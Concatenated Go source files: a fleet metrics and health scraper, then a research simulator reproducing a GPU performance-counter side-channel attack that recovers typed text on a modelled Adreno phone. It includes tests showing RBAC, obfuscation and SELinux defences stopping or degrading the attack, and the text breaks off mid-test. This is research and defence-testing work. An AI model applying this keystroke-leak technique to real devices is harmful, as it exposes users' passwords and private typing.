		if url == "" || seen[url] {
			return
		}
		seen[url] = true
		rep.Targets = append(rep.Targets, scrapeOne(client, url, role))
	}
	if router != "" {
		router = strings.TrimRight(router, "/")
		add(router, "router")
		for _, b := range discoverBackends(client, router) {
			add(b, "replica")
		}
	}
	for _, t := range extra {
		add(t, "replica")
	}
	for _, t := range rep.Targets {
		obs.MergeSnapshots(rep.Fleet, t.Metrics)
	}
	for _, ep := range endpoints {
		requests := rep.Fleet[ep.success] + rep.Fleet[ep.errors]
		if requests == 0 {
			continue
		}
		red := obs.REDSummary{
			Requests:  requests,
			Errors:    rep.Fleet[ep.errors],
			ErrorRate: rep.Fleet[ep.errors] / requests,
		}
		if ep.latency != "" {
			if bs, ok := obs.HistogramFromSnapshot(rep.Fleet, ep.latency); ok && bs.Count > 0 {
				red.P50MS = bs.Quantile(0.50)
				red.P90MS = bs.Quantile(0.90)
				red.P99MS = bs.Quantile(0.99)
				red.MaxMS = rep.Fleet[ep.latency+".max"]
			}
		}
		rep.RED[ep.name] = red
	}
	return rep
}

// discoverBackends reads the router's /healthz backend list and returns
// the base URLs the ring currently reports up. A down or draining
// backend is deliberately absent: it cannot be scraped, and the fleet
// smoke kills one on purpose.
func discoverBackends(client *http.Client, router string) []string {
	resp, err := client.Get(router + "/healthz")
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	var h struct {
		Backends []struct {
			Name  string `json:"name"`
			State string `json:"state"`
		} `json:"backends"`
	}
	if json.NewDecoder(resp.Body).Decode(&h) != nil {
		return nil
	}
	var up []string
	for _, b := range h.Backends {
		if b.State == "up" {
			up = append(up, strings.TrimRight(b.Name, "/"))
		}
	}
	return up
}

// scrapeOne probes one process: /healthz for liveness, /metrics for the
// flat snapshot.
func scrapeOne(client *http.Client, url, role string) obs.TargetMetrics {
	t := obs.TargetMetrics{URL: url, Role: role}
	resp, err := client.Get(url + "/healthz")
	if err != nil {
		t.Error = err.Error()
		return t
	}
	io.Copy(io.Discard, resp.Body) //nolint:errcheck // drain for reuse
	resp.Body.Close()
	t.Healthy = resp.StatusCode == http.StatusOK

	m, err := client.Get(url + "/metrics")
	if err != nil {
		t.Error = err.Error()
		return t
	}
	defer m.Body.Close()
	if m.StatusCode != http.StatusOK {
		t.Error = fmt.Sprintf("/metrics: status %d", m.StatusCode)
		return t
	}
	if err := json.NewDecoder(m.Body).Decode(&t.Metrics); err != nil {
		t.Error = fmt.Sprintf("/metrics: %v", err)
	}
	return t
}

// evaluate fills the report's checks and pass verdict. Without -check
// the verdict only requires every scrape to have succeeded on a healthy
// process.
func evaluate(rep *obs.MetricsReport, check bool, maxErrorRate, maxP99 float64) {
	rep.Pass = len(rep.Targets) > 0
	for _, t := range rep.Targets {
		if !t.Healthy || t.Error != "" {
			rep.Pass = false
		}
	}
	if !check {
		return
	}
	names := make([]string, 0, len(rep.RED))
	for name := range rep.RED {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		red := rep.RED[name]
		rep.Checks = append(rep.Checks, obs.CheckResult{
			Name:  "error_rate." + name,
			Value: red.ErrorRate,
			Limit: maxErrorRate,
			Pass:  red.ErrorRate <= maxErrorRate,
		})
		if red.P99MS > 0 {
			rep.Checks = append(rep.Checks, obs.CheckResult{
				Name:  "p99_ms." + name,
				Value: red.P99MS,
				Limit: maxP99,
				Pass:  red.P99MS <= maxP99,
			})
		}
	}
	for _, c := range rep.Checks {
		if !c.Pass {
			rep.Pass = false
		}
	}
}

func writeReport(rep *obs.MetricsReport, out string) error {
	w := io.Writer(os.Stdout)
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer func() {
			if cerr := f.Close(); cerr != nil {
				log.Fatal(cerr)
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(rep)
}

// renderTable writes the human console view: targets, RED rollups,
// fleet gauges/counters, and the batch-occupancy distribution.
func renderTable(w io.Writer, rep *obs.MetricsReport) {
	tw := tabwriter.NewWriter(w, 2, 4, 2, ' ', 0)
	fmt.Fprintln(tw, "TARGET\tROLE\tHEALTHY")
	for _, t := range rep.Targets {
		state := "yes"
		if !t.Healthy {
			state = "NO"
		}
		if t.Error != "" {
			state += " (" + t.Error + ")"
		}
		fmt.Fprintf(tw, "%s\t%s\t%s\n", t.URL, t.Role, state)
	}
	fmt.Fprintln(tw)

	fmt.Fprintln(tw, "ENDPOINT\tREQS\tERRS\tERR%\tP50MS\tP90MS\tP99MS\tMAXMS")
	for _, ep := range endpoints {
		red, ok := rep.RED[ep.name]
		if !ok {
			continue
		}
		fmt.Fprintf(tw, "%s\t%.0f\t%.0f\t%.2f\t%s\t%s\t%s\t%s\n",
			ep.name, red.Requests, red.Errors, 100*red.ErrorRate,
			ms(red.P50MS), ms(red.P90MS), ms(red.P99MS), ms(red.MaxMS))
	}
	fmt.Fprintln(tw)

	fmt.Fprintln(tw, "FLEET\tVALUE")
	for _, k := range fleetLines(rep.Fleet) {
		fmt.Fprintf(tw, "%s\t%g\n", k, rep.Fleet[k])
	}
	if bs, ok := obs.HistogramFromSnapshot(rep.Fleet, "serve.batch.occupancy"); ok && bs.Count > 0 {
		fmt.Fprintln(tw)
		fmt.Fprintln(tw, "BATCH OCCUPANCY\tFLUSHES")
		prev := 0.0
		for i, b := range bs.Bounds {
			if n := bs.Cum[i] - prev; n > 0 {
				fmt.Fprintf(tw, "<= %g\t%g\n", b, n)
			}
			prev = bs.Cum[i]
		}
		if tail := bs.Count - prev; tail > 0 {
			fmt.Fprintf(tw, "> %g\t%g\n", bs.Bounds[len(bs.Bounds)-1], tail)
		}
	}
	if len(rep.Checks) > 0 {
		fmt.Fprintln(tw)
		fmt.Fprintln(tw, "CHECK\tVALUE\tLIMIT\tPASS")
		for _, c := range rep.Checks {
			fmt.Fprintf(tw, "%s\t%g\t%g\t%v\n", c.Name, c.Value, c.Limit, c.Pass)
		}
	}
	tw.Flush() //nolint:errcheck // console output
	fmt.Fprintln(w)
}

// fleetLines picks the point-in-time fleet counters worth a console
// line: queue depths, session state, failovers, evictions, batching.
func fleetLines(fleet map[string]float64) []string {
	interesting := func(k string) bool {
		switch k {
		case "router.backends_up", "router.sessions.resident", "router.sessions.failovers",
			"router.evictions", "router.frames", "router.proxied",
			"serve.sessions.resident", "serve.sessions.streaming",
			"serve.batch.flushes", "serve.batch.coalesced", "serve.inflight":
			return true
		}
		return strings.HasPrefix(k, "serve.shard") && strings.HasSuffix(k, ".queued")
	}
	var keys []string
	for k := range fleet {
		if interesting(k) {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	return keys
}

// ms renders a latency cell, blank when the endpoint records none.
func ms(v float64) string {
	if v == 0 {
		return "-"
	}
	return fmt.Sprintf("%.1f", v)
}
