package gpuleak

import (
	"testing"
)

func TestFacadeEndToEnd(t *testing.T) {
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 7}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(TypeText("hunter2", 11))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewAttack(model).Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	if res.Text != "hunter2" {
		t.Fatalf("eavesdropped %q", res.Text)
	}
}

func TestFacadeRBACBlocksAttack(t *testing.T) {
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 8}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(TypeText("secret", 12))
	sess.Device.SetPolicy(NewRBACPolicy())
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewAttack(model).Eavesdrop(f, 0, sess.End); err == nil {
		t.Fatal("attack succeeded despite RBAC policy")
	}
}

func TestFacadeObfuscatorDegradesAttack(t *testing.T) {
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 9}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(TypeText("correcthorse", 13))
	sess.Device.SetObfuscator(NewObfuscator(1.0, 99))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewAttack(model).Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	if res.Text == "correcthorse" {
		t.Fatal("heavy obfuscation did not degrade the attack")
	}
}

func TestFacadeExperimentRegistry(t *testing.T) {
	if len(Experiments()) < 25 {
		t.Fatalf("only %d experiments exposed", len(Experiments()))
	}
	if _, err := RunExperiment("nope", true, 1); err == nil {
		t.Fatal("unknown experiment accepted")
	}
	r, err := RunExperiment("fig5", true, 1)
	if err != nil {
		t.Fatal(err)
	}
	if r.ID != "fig5" {
		t.Fatalf("wrong experiment ran: %s", r.ID)
	}
}

func TestFacadePracticalSession(t *testing.T) {
	s := PracticalSession("abcdef", Volunteers[2], 3)
	if len(s.Events) < 6 {
		t.Fatalf("practical session too short: %d events", len(s.Events))
	}
	if s.ExpectedText() != "abcdef" {
		t.Fatalf("ExpectedText = %q", s.ExpectedText())
	}
}

func TestFacadeMonitorPipeline(t *testing.T) {
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 21, PreLaunch: 3_000_000}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(PracticalSessionAt("watchme1", Volunteers[1], 33, cfg.PreLaunch+800_000))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewAttack(model).MonitorAndEavesdrop(f, 0, sess.End, MonitorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Detected {
		t.Fatal("launch not detected through the facade")
	}
	if res.Result.Text != sess.TypedText() {
		t.Fatalf("monitored recovery %q vs %q", res.Result.Text, sess.TypedText())
	}
}

func TestFacadeOfflineSegmentation(t *testing.T) {
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 22}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(TypeText("offline99", 14))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	atk := NewAttack(model)
	s, err := NewSamplerOn(f)
	if err != nil {
		t.Fatal(err)
	}
	tr, err := s.Collect(0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	res, err := atk.EavesdropTraceOffline(tr)
	if err != nil {
		t.Fatal(err)
	}
	if res.Text != sess.TypedText() {
		t.Fatalf("offline segmentation got %q, want %q", res.Text, sess.TypedText())
	}
}

func TestFacadeSELinuxPolicy(t *testing.T) {
	if _, err := NewSELinuxPolicy("garbage rule"); err == nil {
		t.Fatal("malformed policy accepted")
	}
	cfg := VictimConfig{Device: OnePlus8Pro, Seed: 23}
	model, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sess := NewVictim(cfg)
	sess.Run(TypeText("patched", 15))
	sess.Device.SetPolicy(GooglePatchPolicy())
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewAttack(model).Eavesdrop(f, 0, sess.End); err == nil {
		t.Fatal("attack survived the Google patch policy")
	}
}
