// Package render implements a tile-based (binning) GPU rendering model of
// the kind used by Qualcomm Adreno hardware. Scenes are composed of layers
// drawn back-to-front; each layer contains rectangular primitives (solid
// quads and tessellated glyph strokes). Rendering a frame produces the
// exact per-frame statistics that feed the Adreno performance counters the
// paper's attack reads: LRZ occlusion-culling results, rasterizer tile
// coverage, and vertex-pipeline primitive counts.
//
// The renderer is analytic: tile coverage is computed with closed-form
// grid arithmetic (geom.Tiles) rather than per-pixel iteration, which makes
// full-evaluation experiment sweeps cheap while remaining exact for
// axis-aligned geometry.
package render

import (
	"fmt"
	"sort"

	"gpuleak/internal/geom"
	"gpuleak/internal/glyph"
)

// Prim is a drawable primitive: an axis-aligned quad with an associated
// tessellation (glyph strokes carry the triangles of their curved
// segments). Opaque primitives participate in LRZ occlusion.
type Prim struct {
	Rect   geom.Rect
	Opaque bool
	Tris   int // tessellated triangle count, >= 2 for a quad
	Verts  int // tessellated vertex count, >= 4 for a quad
}

// Quad returns a plain rectangle primitive (2 triangles, 4 vertices).
func Quad(r geom.Rect, opaque bool) Prim {
	return Prim{Rect: r, Opaque: opaque, Tris: 2, Verts: 4}
}

// GlyphPrims tessellates glyph g into primitives inside box. Each stroke
// becomes a quad; the triangles of curved segments are attached to the
// first stroke (they share its coverage), matching how text renderers
// batch a glyph into one draw.
func GlyphPrims(g glyph.Glyph, box geom.Rect) []Prim {
	rects := g.StrokeRects(box)
	if len(rects) == 0 {
		return nil
	}
	tess := glyph.TessFactor(box.H())
	out := make([]Prim, 0, len(rects))
	for i, r := range rects {
		p := Prim{Rect: r, Opaque: false, Tris: 2, Verts: 4}
		if i == 0 && g.Curves > 0 {
			p.Tris += g.Curves * tess
			p.Verts += g.Curves * (tess + 2)
		}
		out = append(out, p)
	}
	return out
}

// TextPrims lays the string out left-to-right in a line box, one glyph box
// per character with 10% letter spacing, and tessellates each glyph.
func TextPrims(text string, line geom.Rect, charW int) []Prim {
	var out []Prim
	x := line.X0
	adv := charW + charW/10
	for _, r := range text {
		box := geom.Rect{X0: x, Y0: line.Y0, X1: x + charW, Y1: line.Y1}
		out = append(out, GlyphPrims(glyph.MustLookup(r), box)...)
		x += adv
		if x >= line.X1 {
			break // clipped by the field, as real text layout does
		}
	}
	return out
}

// Layer is a z-ordered group of primitives (an Android rendering layer:
// window background, keyboard surface, popup surface, ...).
type Layer struct {
	Z     int
	Name  string
	Prims []Prim
}

// Scene is a full screen description. Layers are drawn in ascending Z.
type Scene struct {
	Screen geom.Size
	Layers []Layer
}

// Add inserts a layer keeping ascending Z order (stable for equal Z).
func (s *Scene) Add(l Layer) {
	s.Layers = append(s.Layers, l)
	sort.SliceStable(s.Layers, func(i, j int) bool { return s.Layers[i].Z < s.Layers[j].Z })
}

// Remove deletes all layers with the given name.
func (s *Scene) Remove(name string) {
	out := s.Layers[:0]
	for _, l := range s.Layers {
		if l.Name != name {
			out = append(out, l)
		}
	}
	s.Layers = out
}

// Clone returns a deep-enough copy: layer slice is copied, prim slices are
// shared (prims are immutable by convention).
func (s *Scene) Clone() Scene {
	out := Scene{Screen: s.Screen, Layers: make([]Layer, len(s.Layers))}
	copy(out.Layers, s.Layers)
	return out
}

// Bounds returns the full-screen rectangle.
func (s *Scene) Bounds() geom.Rect { return geom.XYWH(0, 0, s.Screen.W, s.Screen.H) }

// Config holds the tile geometry of a GPU model. Adreno uses 8x8 low
// resolution Z tiles, 8x4 rasterizer tiles and larger binning supertiles.
type Config struct {
	LRZTileW, LRZTileH int
	RASTileW, RASTileH int
	SuperW, SuperH     int
	VertexComponents   int // shaded components per vertex (position + color + uv)
}

// DefaultConfig is the Adreno 6xx tile geometry.
func DefaultConfig() Config {
	return Config{
		LRZTileW: 8, LRZTileH: 8,
		RASTileW: 8, RASTileH: 4,
		SuperW: 32, SuperH: 32,
		VertexComponents: 8,
	}
}

// FrameStats are the per-frame deltas of every modeled performance
// counter. Field order mirrors Table 1 of the paper.
type FrameStats struct {
	// LRZ group.
	VisiblePrimAfterLRZ  uint64 // ID 13: triangles surviving LRZ culling
	FullTiles8x8         uint64 // ID 14: fully covered 8x8 tiles (per visible prim)
	PartialTiles8x8      uint64 // ID 15: partially covered 8x8 tiles
	VisiblePixelAfterLRZ uint64 // ID 18: pixels surviving LRZ culling

	// RAS group.
	SupertileActiveCycles uint64 // ID 1: rasterizer supertile cycle estimate
	SuperTiles            uint64 // ID 4: supertiles touched
	Tiles8x4              uint64 // ID 5: 8x4 rasterizer tiles touched
	FullyCovered8x4       uint64 // ID 8: fully covered 8x4 tiles

	// VPC group.
	PCPrimitives        uint64 // ID 9: primitives submitted to the PC
	SPComponents        uint64 // ID 10: vertex components shaded
	LRZAssignPrimitives uint64 // ID 12: opaque primitives assigned by LRZ

	// Auxiliary (not a Table-1 counter; drives draw-duration and the
	// coarse desktop-GPU substrate).
	TotalPixels uint64
}

// Add accumulates o into f.
func (f *FrameStats) Add(o FrameStats) {
	f.VisiblePrimAfterLRZ += o.VisiblePrimAfterLRZ
	f.FullTiles8x8 += o.FullTiles8x8
	f.PartialTiles8x8 += o.PartialTiles8x8
	f.VisiblePixelAfterLRZ += o.VisiblePixelAfterLRZ
	f.SupertileActiveCycles += o.SupertileActiveCycles
	f.SuperTiles += o.SuperTiles
	f.Tiles8x4 += o.Tiles8x4
	f.FullyCovered8x4 += o.FullyCovered8x4
	f.PCPrimitives += o.PCPrimitives
	f.SPComponents += o.SPComponents
	f.LRZAssignPrimitives += o.LRZAssignPrimitives
	f.TotalPixels += o.TotalPixels
}

// IsZero reports whether no work was recorded.
func (f FrameStats) IsZero() bool { return f == FrameStats{} }

func (f FrameStats) String() string {
	return fmt.Sprintf("prims=%d px=%d full8=%d part8=%d", f.VisiblePrimAfterLRZ,
		f.VisiblePixelAfterLRZ, f.FullTiles8x8, f.PartialTiles8x8)
}

// Render draws the portion of the scene inside damage and returns the
// frame statistics. Rendering only the damaged region models Android's
// partial-update path (EGL_KHR_partial_update): an unchanged screen incurs
// no GPU work at all, which is why the paper's counters stay flat between
// user inputs.
func Render(s *Scene, damage geom.Rect, cfg Config) FrameStats {
	var stats FrameStats
	damage = damage.Intersect(s.Bounds())
	if damage.Empty() {
		return stats
	}

	// Gather draw list in back-to-front order, clipped to the damage rect.
	type drawn struct {
		clip   geom.Rect
		opaque bool
		tris   int
		verts  int
	}
	var list []drawn
	for _, l := range s.Layers {
		for _, p := range l.Prims {
			clip := p.Rect.Intersect(damage)
			if clip.Empty() {
				continue
			}
			list = append(list, drawn{clip: clip, opaque: p.Opaque, tris: p.Tris, verts: p.Verts})
		}
	}

	for i, d := range list {
		// Vertex pipeline (VPC) counters see every submitted primitive,
		// before LRZ culling.
		stats.PCPrimitives += uint64(d.tris)
		stats.SPComponents += uint64(d.verts * cfg.VertexComponents)
		if d.opaque {
			stats.LRZAssignPrimitives += uint64(d.tris)
		}

		// LRZ pass: a primitive is culled when a later (higher) opaque
		// primitive fully covers it. Single-rect containment is exact for
		// the popup-over-key and surface-over-background cases that drive
		// the side channel.
		culled := false
		for j := i + 1; j < len(list); j++ {
			if list[j].opaque && list[j].clip.Contains(d.clip) {
				culled = true
				break
			}
		}
		if culled {
			continue
		}

		area := uint64(d.clip.Area())
		stats.VisiblePrimAfterLRZ += uint64(d.tris)
		stats.VisiblePixelAfterLRZ += area
		stats.TotalPixels += area

		lrz := geom.Tiles(d.clip, cfg.LRZTileW, cfg.LRZTileH)
		stats.FullTiles8x8 += uint64(lrz.Full)
		stats.PartialTiles8x8 += uint64(lrz.Partial())

		ras := geom.Tiles(d.clip, cfg.RASTileW, cfg.RASTileH)
		stats.Tiles8x4 += uint64(ras.Touched)
		stats.FullyCovered8x4 += uint64(ras.Full)

		st := geom.Tiles(d.clip, cfg.SuperW, cfg.SuperH)
		stats.SuperTiles += uint64(st.Touched)
		stats.SupertileActiveCycles += uint64(st.Touched*16) + area/4
	}
	return stats
}

// AtlasQuad returns the single textured quad a glyph-atlas text renderer
// draws for a character: a tight ink-extents rectangle, two triangles.
// Android's HWUI renders small in-field text this way, which is why the
// paper observes the LRZ visible-primitive counter increasing by exactly 2
// per typed character (Figure 14). Space produces no quad.
func AtlasQuad(g glyph.Glyph, box geom.Rect) (Prim, bool) {
	ink := g.InkBounds()
	if ink == (geom.RectF{}) {
		return Prim{}, false
	}
	return Prim{Rect: ink.Scale(box), Opaque: false, Tris: 2, Verts: 4}, true
}

// AtlasTextPrims lays out text as one atlas quad per character, advancing
// by charW plus 10% letter spacing, clipped at the line end.
func AtlasTextPrims(text string, line geom.Rect, charW int) []Prim {
	var out []Prim
	x := line.X0
	adv := charW + charW/10
	for _, r := range text {
		box := geom.Rect{X0: x, Y0: line.Y0, X1: x + charW, Y1: line.Y1}
		if p, ok := AtlasQuad(glyph.MustLookup(r), box); ok {
			out = append(out, p)
		}
		x += adv
		if x >= line.X1 {
			break
		}
	}
	return out
}
