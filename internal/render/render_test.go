package render

import (
	"testing"
	"testing/quick"

	"gpuleak/internal/geom"
	"gpuleak/internal/glyph"
)

func testScene() *Scene {
	s := &Scene{Screen: geom.Size{W: 1080, H: 2376}}
	s.Add(Layer{Z: 0, Name: "background", Prims: []Prim{Quad(s.Bounds(), true)}})
	return s
}

func TestEmptyDamageIsFree(t *testing.T) {
	s := testScene()
	if got := Render(s, geom.Rect{}, DefaultConfig()); !got.IsZero() {
		t.Fatalf("empty damage produced work: %+v", got)
	}
}

func TestFullScreenBackground(t *testing.T) {
	s := testScene()
	st := Render(s, s.Bounds(), DefaultConfig())
	if st.VisiblePrimAfterLRZ != 2 {
		t.Fatalf("background prims = %d, want 2 triangles", st.VisiblePrimAfterLRZ)
	}
	wantPx := uint64(1080 * 2376)
	if st.VisiblePixelAfterLRZ != wantPx {
		t.Fatalf("pixels = %d, want %d", st.VisiblePixelAfterLRZ, wantPx)
	}
	// 1080/8 x 2376/8 tiles, all full (aligned).
	if st.FullTiles8x8 != uint64(135*297) {
		t.Fatalf("full tiles = %d, want %d", st.FullTiles8x8, 135*297)
	}
	if st.PartialTiles8x8 != 0 {
		t.Fatalf("partial tiles = %d on aligned full-screen quad", st.PartialTiles8x8)
	}
}

func TestOcclusionCullsLowerPrim(t *testing.T) {
	s := testScene()
	key := Quad(geom.XYWH(100, 100, 50, 50), false)
	popup := Quad(geom.XYWH(80, 60, 100, 120), true)
	s.Add(Layer{Z: 5, Name: "key", Prims: []Prim{key}})
	s.Add(Layer{Z: 10, Name: "popup", Prims: []Prim{popup}})

	damage := geom.XYWH(0, 0, 300, 300)
	st := Render(s, damage, DefaultConfig())

	// Background clipped to damage is NOT fully contained in the popup, so
	// it stays; the key IS fully inside the popup, so LRZ culls it.
	// Visible prims: background (2) + popup (2) = 4.
	if st.VisiblePrimAfterLRZ != 4 {
		t.Fatalf("visible prims = %d, want 4 (key must be culled)", st.VisiblePrimAfterLRZ)
	}
	// Submitted prims include the culled key: 6.
	if st.PCPrimitives != 6 {
		t.Fatalf("submitted prims = %d, want 6", st.PCPrimitives)
	}
	// LRZ assignment counts only opaque prims: background + popup = 4.
	if st.LRZAssignPrimitives != 4 {
		t.Fatalf("LRZ-assigned prims = %d, want 4", st.LRZAssignPrimitives)
	}
}

func TestOverdrawCountsTilesPerPrim(t *testing.T) {
	// Two translucent stacked quads on the same 64x64 area: both are drawn,
	// so every tile is counted twice (2x overdraw), plus the background.
	s := testScene()
	r := geom.XYWH(0, 0, 64, 64)
	s.Add(Layer{Z: 1, Name: "a", Prims: []Prim{Quad(r, false)}})
	s.Add(Layer{Z: 2, Name: "b", Prims: []Prim{Quad(r, false)}})
	st := Render(s, r, DefaultConfig())
	// background(64 full tiles) + a(64) + b(64) = 192
	if st.FullTiles8x8 != 192 {
		t.Fatalf("full tiles = %d, want 192 (3x overdraw)", st.FullTiles8x8)
	}
	if st.VisiblePixelAfterLRZ != 3*64*64 {
		t.Fatalf("pixels = %d, want %d", st.VisiblePixelAfterLRZ, 3*64*64)
	}
}

func TestOpaqueTopCullsEverythingBelow(t *testing.T) {
	s := testScene()
	r := geom.XYWH(0, 0, 64, 64)
	s.Add(Layer{Z: 1, Name: "mid", Prims: []Prim{Quad(r, false)}})
	s.Add(Layer{Z: 2, Name: "top", Prims: []Prim{Quad(r, true)}})
	st := Render(s, r, DefaultConfig())
	// Only the top quad survives: background and mid are fully covered.
	if st.VisiblePrimAfterLRZ != 2 {
		t.Fatalf("visible prims = %d, want 2", st.VisiblePrimAfterLRZ)
	}
	if st.FullTiles8x8 != 64 {
		t.Fatalf("full tiles = %d, want 64", st.FullTiles8x8)
	}
}

func TestDamageClipsWork(t *testing.T) {
	s := testScene()
	full := Render(s, s.Bounds(), DefaultConfig())
	half := Render(s, geom.XYWH(0, 0, 1080, 1188), DefaultConfig())
	if half.VisiblePixelAfterLRZ*2 != full.VisiblePixelAfterLRZ {
		t.Fatalf("half damage pixels = %d, full = %d", half.VisiblePixelAfterLRZ, full.VisiblePixelAfterLRZ)
	}
}

func TestGlyphPrims(t *testing.T) {
	box := geom.XYWH(500, 1800, 96, 120)
	g := glyph.MustLookup('o') // 4 strokes, 4 curves
	prims := GlyphPrims(g, box)
	if len(prims) != 4 {
		t.Fatalf("prims = %d, want 4", len(prims))
	}
	tess := glyph.TessFactor(120)
	wantTris := 2*4 + 4*tess
	total := 0
	for _, p := range prims {
		total += p.Tris
		if p.Opaque {
			t.Fatal("glyph strokes must not be opaque")
		}
	}
	if total != wantTris {
		t.Fatalf("glyph tris = %d, want %d", total, wantTris)
	}
}

func TestGlyphPrimsEmptyForSpace(t *testing.T) {
	if got := GlyphPrims(glyph.MustLookup(' '), geom.XYWH(0, 0, 96, 120)); got != nil {
		t.Fatalf("space produced prims: %v", got)
	}
}

func TestTextPrimsAdvance(t *testing.T) {
	line := geom.XYWH(100, 100, 400, 48)
	one := TextPrims("l", line, 32)
	two := TextPrims("ll", line, 32)
	if len(two) != 2*len(one) {
		t.Fatalf("two chars prims = %d, want %d", len(two), 2*len(one))
	}
	// Second glyph must be advanced, not overdrawn on the first.
	if two[0].Rect == two[1].Rect {
		t.Fatal("glyphs not advanced")
	}
}

func TestTextPrimsClipsAtFieldEnd(t *testing.T) {
	line := geom.XYWH(0, 0, 64, 48)
	long := TextPrims("llllllllllllllll", line, 32)
	if len(long) > 3 {
		t.Fatalf("text not clipped: %d prims", len(long))
	}
}

func TestDifferentGlyphsDifferentStats(t *testing.T) {
	cfg := DefaultConfig()
	stats := func(r rune) FrameStats {
		s := testScene()
		box := geom.XYWH(500, 1800, 96, 120)
		s.Add(Layer{Z: 10, Name: "popup", Prims: append([]Prim{Quad(box.Inset(-12), true)}, GlyphPrims(glyph.MustLookup(r), box)...)})
		return Render(s, box.Inset(-12), cfg)
	}
	w := stats('w')
	n := stats('n')
	if w == n {
		t.Fatal("'w' and 'n' frames identical — no side channel")
	}
	if w.VisiblePrimAfterLRZ == n.VisiblePrimAfterLRZ &&
		w.VisiblePixelAfterLRZ == n.VisiblePixelAfterLRZ {
		t.Fatal("'w' and 'n' indistinguishable on key counters")
	}
}

func TestSceneAddKeepsZOrder(t *testing.T) {
	s := &Scene{Screen: geom.Size{W: 100, H: 100}}
	s.Add(Layer{Z: 5, Name: "c"})
	s.Add(Layer{Z: 1, Name: "a"})
	s.Add(Layer{Z: 3, Name: "b"})
	names := []string{"a", "b", "c"}
	for i, l := range s.Layers {
		if l.Name != names[i] {
			t.Fatalf("layer %d = %q, want %q", i, l.Name, names[i])
		}
	}
}

func TestSceneRemove(t *testing.T) {
	s := &Scene{Screen: geom.Size{W: 100, H: 100}}
	s.Add(Layer{Z: 1, Name: "keep"})
	s.Add(Layer{Z: 2, Name: "popup"})
	s.Add(Layer{Z: 3, Name: "popup"})
	s.Remove("popup")
	if len(s.Layers) != 1 || s.Layers[0].Name != "keep" {
		t.Fatalf("Remove failed: %+v", s.Layers)
	}
}

func TestCloneIsolation(t *testing.T) {
	s := testScene()
	c := s.Clone()
	c.Add(Layer{Z: 9, Name: "extra"})
	if len(s.Layers) == len(c.Layers) {
		t.Fatal("Clone shares layer slice")
	}
}

func TestStatsAdd(t *testing.T) {
	a := FrameStats{VisiblePrimAfterLRZ: 1, TotalPixels: 10}
	b := FrameStats{VisiblePrimAfterLRZ: 2, TotalPixels: 5, SuperTiles: 7}
	a.Add(b)
	if a.VisiblePrimAfterLRZ != 3 || a.TotalPixels != 15 || a.SuperTiles != 7 {
		t.Fatalf("Add wrong: %+v", a)
	}
}

// Property: rendering is deterministic and monotone in damage area.
func TestRenderMonotoneInDamage(t *testing.T) {
	s := testScene()
	s.Add(Layer{Z: 3, Name: "card", Prims: []Prim{Quad(geom.XYWH(40, 200, 1000, 600), false)}})
	cfg := DefaultConfig()
	f := func(w, h uint16) bool {
		small := geom.XYWH(0, 0, int(w)%1080, int(h)%2376)
		grown := geom.XYWH(0, 0, int(w)%1080+40, int(h)%2376+40)
		a := Render(s, small, cfg)
		b := Render(s, grown, cfg)
		return b.VisiblePixelAfterLRZ >= a.VisiblePixelAfterLRZ &&
			b.PCPrimitives >= a.PCPrimitives
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

// Property: submitted primitive count never falls below visible count.
func TestVisibleNeverExceedsSubmitted(t *testing.T) {
	s := testScene()
	box := geom.XYWH(300, 1700, 120, 150)
	for _, r := range glyph.Runes() {
		sc := s.Clone()
		sc.Add(Layer{Z: 10, Name: "popup", Prims: append([]Prim{Quad(box, true)}, GlyphPrims(glyph.MustLookup(r), box.Inset(12))...)})
		st := Render(&sc, box.Inset(-20), DefaultConfig())
		if st.VisiblePrimAfterLRZ > st.PCPrimitives {
			t.Fatalf("rune %q: visible %d > submitted %d", r, st.VisiblePrimAfterLRZ, st.PCPrimitives)
		}
	}
}

func TestAtlasQuadIsTwoTriangles(t *testing.T) {
	box := geom.XYWH(100, 100, 32, 48)
	for _, r := range "aw.•8" {
		p, ok := AtlasQuad(glyph.MustLookup(r), box)
		if !ok {
			t.Fatalf("no atlas quad for %q", r)
		}
		if p.Tris != 2 || p.Verts != 4 {
			t.Fatalf("atlas quad for %q has %d tris", r, p.Tris)
		}
		if !box.Contains(p.Rect) {
			t.Fatalf("atlas quad for %q escapes box", r)
		}
	}
	if _, ok := AtlasQuad(glyph.MustLookup(' '), box); ok {
		t.Fatal("space produced an atlas quad")
	}
}

func TestAtlasQuadsDifferInArea(t *testing.T) {
	box := geom.XYWH(0, 0, 32, 48)
	w, _ := AtlasQuad(glyph.MustLookup('w'), box)
